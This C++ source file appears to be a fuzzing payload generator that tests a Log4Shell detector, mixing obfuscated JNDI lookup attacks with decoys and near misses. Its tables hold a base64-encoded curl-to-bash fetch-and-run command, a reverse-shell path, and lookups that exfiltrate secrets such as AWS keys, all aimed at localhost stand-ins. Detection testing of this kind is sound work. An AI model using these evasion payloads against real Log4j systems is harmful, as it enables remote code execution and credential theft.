#include "payload_generator.h"

#include <cctype>

namespace l4s::hunt::testing {
namespace {

constexpr std::string_view kSchemes[] = {"ldap", "ldap", "ldap", "ldaps", "rmi", "rmi", "dns", "iiop",
                                         "LDAP", "Ldap", "http", "nis",  "nds", "corba", "iiopname"};
constexpr std::string_view kHosts[] = {
    "127.0.0.1", "localhost", "127.0.0.1", "127.1.2.3", "[::1]", "127.0.0.1#127.0.0.2",
    "localhost#evil.localhost", "127.0.0.1#x.localhost", "LocalHost", "127.0.0.1_x", "xn--lcalhost-x.localhost"};
constexpr std::string_view kPorts[] = {"", "", ":1389", ":1099", ":389", ":636", ":53", ":12344", ":0", ":99999"};
constexpr std::string_view kPaths[] = {
    "/a", "/o=reference", "/Exploit", "/Basic/Command/Base64/Y3VybCAtcyAxMjcuMC4wLjE6ODAvYS5zaHxiYXNo",
    "/TomcatBypass/Command/Base64/aWQ=", "/Basic/ReverseShell/127.0.0.1/4444", "", "/", "/a?b=c", "/%61"};
// Lookups whose value comes from the victim: exfiltration targets.
constexpr std::string_view kExfil[] = {
    "${env:AWS_SECRET_ACCESS_KEY}", "${env:USER}",          "${hostName}",           "${java:version}",
    "${java:os}",                   "${sys:AWS_KEY_ID}",    "${ctx:user}",           "${main:0}",
    "${event:ThreadName}",          "${event:Timestamp}",   "${event:Level}",        "${date:yyyy}",
    "${env:COMPUTERNAME:-x}",       "${contextName}",       "${bundle:app:key}",     "${map:k}",
    "${sd:type}",                   "${marker:m}",          "${log4j:configLocation}", "${jvmrunargs:x}"};
// Padding before ":-" that makes the lookup absent...
constexpr std::string_view kPads[] = {
    "",          ":",           "::",        "::::::::::", " :  : : ",  ":+:+",    "env:NaN",
    "env:BARFOO", "sys:nope.x", "k8s:k5",    "sd:k5",      "main:k5",   "ctx:x",   "a:\\-",
    "123%25ff",  "event:Nope",  "web:x",     "spring:a:b", "map:x",     "bundle:a:b",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA:BBBB"};
// ...and some that do not (a value comes back, a JNDI call happens, or the event is dropped).
constexpr std::string_view kNearMissPads[] = {"upper:", "lower:", "hostName", "jndi:x", "java:xx",
                                              "date:x:\\-", "event:Level", "sys:file.separator"};
constexpr std::string_view kDecoys[] = {
    "${jenkins.url}",
    "${JAVA_HOME}",
    "${solution-user.name}",
    "gdpr=${GDPR}",
    "${@phpinfo()}",
    "${REMOVED_DEVICES}",
    "jndi binding: ldap://127.0.0.1:389/dc=corp",
    "${jndi :ldap://127.0.0.1/a}",
    "${base64:JHtqbmRpOmxkYXA6Ly8xMjcuMC4wLjEvYX0=}",
    "$${jndi:ldap://127.0.0.1/a}",
    "${jndi:ldap://127.0.0.1/a",
    "}",
    "${",
    "$",
    "${}",
    "${:}",
    "${::-}",
    "${lower:}",
    "${upper:abc}",
    "${date:yyyy-MM-dd HH:mm:ss.SSS}",
    "${date:EEEE, MMMM d, ''yy G}",
    "${date:x}",
    "${date:'unterminated}",
    "${date:XXXX}",
    "${date:YYYY-ww-W-F-D-u-k-K-h-a-z-Z-X-L}",
    "${hostName}",
    "${contextName}",
    "${event:Level}",
    "${event:Logger}",
    "${event:Marker}",
    "${ctx:user}",
    "${sys:file.separator}",
    "${sys:line.separator}",
    "${env:HOME}",
    "${java:version}",
    "${java:runtime}",
    "${main:0}",
    "${jndi:}",
    "${lower:${upper:${lower:X}}}",
    "${a:b:-c:-d}",
    "${main:\\--file}",
    "${x:\\-y:-z}",
    "$$$${x}",
    "${$${x}}",
    "${${}}",
    "${j}{n}{d}{i}",
    "\\${jndi:ldap://127.0.0.1/a}",
};
constexpr std::string_view kWords[] = {
    "GET",   "POST",  "/index.html", "HTTP/1.1", "200",      "404",    "Mozilla/5.0", "user",  "login",
    "INFO",  "WARN",  "[main]",      "c.e.App",  "-",        "\"",     "{\"ua\":",    "}",     "=",
    "café",  "naïve", "日本語",       "😀",        "ı",        "İ",      "ſ",           "\u212A", "ß",
    "ﬁ",     "\t",    "\\",          "'",        "%24%7B",   "\\u0024", "jndi",       "ldap",  ":-",
    "a:b",   "$",     "{",           "$$",       "x}",       "::",     "${x}",        "\\x24",
};

std::string random_case(std::string_view s, uint64_t bits, bool to_upper) {
  std::string out(s);
  for (size_t i = 0; i < out.size(); ++i) {
    if ((bits >> (i % 64)) & 1) {
      out[i] = static_cast<char>(to_upper ? std::toupper(static_cast<unsigned char>(out[i]))
                                          : std::tolower(static_cast<unsigned char>(out[i])));
    }
  }
  return out;
}

bool has_lower(std::string_view s) {
  for (char c : s) {
    if (c >= 'a' && c <= 'z') return true;
  }
  return false;
}

bool has_upper(std::string_view s) {
  for (char c : s) {
    if (c >= 'A' && c <= 'Z') return true;
  }
  return false;
}

// Replaces ASCII letters by non-ASCII characters that Java case-maps to them.
std::string unicode_for_upper(std::string_view s, uint64_t bits) {  // upper(x) == s
  std::string out;
  for (size_t i = 0; i < s.size(); ++i) {
    bool use = (bits >> (i % 64)) & 1;
    if (use && s[i] == 'I') {
      out += "ı";  // U+0131
    } else if (use && s[i] == 'S') {
      out += "ſ";  // U+017F
    } else if (use && s.substr(i, 2) == "FI") {
      out += "ﬁ";
      ++i;
    } else if (use && s.substr(i, 2) == "SS") {
      out += "ß";
      ++i;
    } else {
      out += static_cast<char>(std::tolower(static_cast<unsigned char>(s[i])));
    }
  }
  return out;
}

std::string unicode_for_lower(std::string_view s, uint64_t bits) {  // lower(x) == s
  std::string out;
  for (size_t i = 0; i < s.size(); ++i) {
    bool use = (bits >> (i % 64)) & 1;
    if (use && s[i] == 'k') {
      out += "\u212A";  // KELVIN SIGN
    } else if (use && s[i] == 'i' && (bits >> 63)) {
      out += "İ";  // Near miss: lower-cases to "i\u0307".
    } else {
      out += static_cast<char>(std::toupper(static_cast<unsigned char>(s[i])));
    }
  }
  return out;
}

}  // namespace

uint64_t PayloadGenerator::next() {  // splitmix64
  uint64_t z = (state_ += 0x9E3779B97F4A7C15ull);
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
  return z ^ (z >> 31);
}

int64_t PayloadGenerator::time_millis() {
  return static_cast<int64_t>(next() % 4102444800000ull);
}

std::string PayloadGenerator::random_word(size_t min, size_t max) {
  static constexpr std::string_view kAlpha = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.";
  size_t n = min + below(max - min + 1);
  std::string w;
  for (size_t i = 0; i < n; ++i) w += kAlpha[below(kAlpha.size())];
  return w;
}

std::string PayloadGenerator::pad() {
  if (percent(25)) return random_word(1, 8) + ":" + random_word(1, 8) + (percent(50) ? ":" + random_word(1, 5) : "");
  if (percent(4)) return std::string(pick(kNearMissPads));
  return std::string(pick(kPads));
}

std::string PayloadGenerator::render_chunk(std::string_view chunk, int depth) {
  bool deeper = depth < 3;
  switch (below(12)) {
    case 0:
    case 1:
      if (!has_upper(chunk)) {
        std::string x = percent(20) ? unicode_for_lower(chunk, next()) : random_case(chunk, next(), true);
        return "${lower:" + (deeper && percent(30) ? render(x, depth + 1) : x) + "}";
      }
      break;
    case 2:
      if (!has_lower(chunk)) {
        std::string x = percent(40) ? unicode_for_upper(chunk, next()) : random_case(chunk, next(), false);
        return "${upper:" + (deeper && percent(30) ? render(x, depth + 1) : x) + "}";
      }
      if (percent(50)) {  // upper then lower back, e.g. ${lower:${upper:j}}
        return "${lower:${upper:" + std::string(chunk) + "}}";
      }
      break;
    case 3:
    case 4:
    case 5:
      return "${" + pad() + ":-" + (deeper && percent(25) ? render(chunk, depth + 1) : std::string(chunk)) + "}";
    case 6: {
      std::string quoted;
      for (char c : chunk) quoted += (c == '\'') ? std::string("''") : std::string(1, c);
      return "${date:'" + quoted + "'}";
    }
    case 7:
      if (chunk == "/") return "${sys:file.separator}";
      if (chunk == ":") return "${sys:path.separator}";
      return std::string(chunk) + (percent(50) ? "${date:}" : "${::-}");
    case 8:
      if (deeper && !has_upper(chunk)) {  // The prefix itself built by lookups.
        return "${" + render(percent(50) ? "lower" : "LoWeR", depth + 1) + ":" +
               random_case(chunk, next(), true) + "}";
      }
      break;
    case 9:
      if (percent(30)) return "${" + pad() + ":\\-" + std::string(chunk) + "}";  // Near miss mostly.
      break;
  }
  return std::string(chunk);
}

std::string PayloadGenerator::render(std::string_view target, int depth) {
  int plain = depth == 0 ? 40 : 60;
  std::string out;
  for (size_t i = 0; i < target.size();) {
    size_t n = 1 + below(std::min<size_t>(4, target.size() - i));
    // Keep multi-byte characters whole.
    while (i + n < target.size() && (static_cast<unsigned char>(target[i + n]) & 0xC0) == 0x80) ++n;
    std::string_view chunk = target.substr(i, n);
    out += percent(plain) ? std::string(chunk) : render_chunk(chunk, depth);
    i += n;
  }
  return out;
}

std::string PayloadGenerator::jndi_url() {
  if (percent(5)) return "java:comp/env/jdbc/" + random_word(1, 6);
  if (percent(4)) return random_word(1, 8) + "/a";  // No scheme: Log4j prepends java:comp/env/.
  std::string host(pick(kHosts));
  if (percent(15)) host = std::string(pick(kExfil)) + "." + host;
  std::string url = std::string(pick(kSchemes)) + (percent(5) ? ":/" : "://") + host + std::string(pick(kPorts)) +
                    std::string(pick(kPaths));
  if (percent(10)) url += "/" + std::string(pick(kExfil));
  return url;
}

std::string PayloadGenerator::jndi_name() {
  std::string prefix = "jndi";
  if (percent(20)) prefix = random_case(prefix, next(), true);
  if (percent(3)) prefix = "jnd\u0130";  // Near miss: U+0130 lower-cases to "i\u0307".
  if (percent(3)) prefix = "jndi ";
  return "${" + render(prefix, 0) + (percent(80) ? ":" : render(":", 0)) + render(jndi_url(), 0) + "}";
}

std::string PayloadGenerator::attack() {
  size_t kind = below(100);
  if (kind < 60) return jndi_name();
  if (kind < 72) {
    static constexpr std::string_view kWrappers[][2] = {
        {"${lower:", "}"}, {"${upper:", "}"}, {"${", "}"}, {"${ctx:", "}"}, {"${env:", ":-x}"},
        {"${::-", "}"},    {"${date:'", "'}"}, {"${x:-", "}"}};
    const auto& w = kWrappers[below(std::size(kWrappers))];
    return std::string(w[0]) + jndi_name() + std::string(w[1]);
  }
  if (kind < 84) {  // "${" assembled by a lookup or unescaped: the %m rescan evaluates it.
    static constexpr std::string_view kDollar[] = {"${date:'$'}", "${::-$}", "$$", "${lower:$}", "${x:-$}",
                                                   "${upper:$}", "$"};
    std::string url = render(jndi_url(), 0);
    std::string s = std::string(pick(kDollar)) + (percent(50) ? "{" : "${::-{}") + "jndi:" + url + "}";
    if (percent(75)) s += filler() + (percent(50) ? "${nope}" : "${x:-y}");
    return s;
  }
  if (kind < 89) {  // Recursion.
    static constexpr std::string_view kDos[] = {"${${::-${::-$${::-j}}}}", "${${event:Message}}",
                                                "${event:Message}", "${ctx:${event:Message}}",
                                                "${lower:${event:Message}}", "${a:-${a}}", "${${a}:-${a}}"};
    return std::string(pick(kDos));
  }
  if (kind < 92) {  // ${java:unknown} throws and drops the event.
    return percent(50) ? "${java:" + random_word(1, 4) + ":-j}" : "${${java:xx}ndi:ldap://127.0.0.1/a}";
  }
  if (kind < 95) return "${jn${base64:ZGk=}:ldap://127.0.0.1/a}";
  if (kind < 98) return "${${event:Level}:" + render("ldap://127.0.0.1/a", 0) + "}";
  return "${jndi:" + std::string(pick(kSchemes)) + "://" + render("127.0.0.1", 0) + "/" + std::string(pick(kExfil)) + "}";
}

std::string PayloadGenerator::decoy() {
  if (percent(70)) return std::string(pick(kDecoys));
  return "${" + random_word(1, 10) + (percent(50) ? "" : ":" + random_word(0, 6)) + "}";
}

std::string PayloadGenerator::filler() {
  std::string s;
  size_t n = below(4);
  for (size_t i = 0; i < n; ++i) s += std::string(pick(kWords)) + (percent(70) ? " " : "");
  return s;
}

std::string PayloadGenerator::damage(std::string line) {
  static constexpr std::string_view kBits = "${}:-\\'$ ";
  size_t edits = 1 + below(2);
  for (size_t e = 0; e < edits && !line.empty(); ++e) {
    size_t pos = below(line.size());
    // Stay on character boundaries: Log4j only ever sees valid text.
    while (pos > 0 && (static_cast<unsigned char>(line[pos]) & 0xC0) == 0x80) --pos;
    if (percent(50)) {
      line.insert(pos, 1, kBits[below(kBits.size())]);
    } else if (static_cast<unsigned char>(line[pos]) < 0x80) {
      line.erase(pos, 1);
    }
  }
  return line;
}

std::string PayloadGenerator::line() {
  std::string line = filler();
  size_t parts = 1 + below(3);
  for (size_t i = 0; i < parts; ++i) {
    line += percent(70) ? attack() : decoy();
    line += filler();
  }
  if (percent(12)) line = damage(std::move(line));
  return line;
}

}  // namespace l4s::hunt::testing
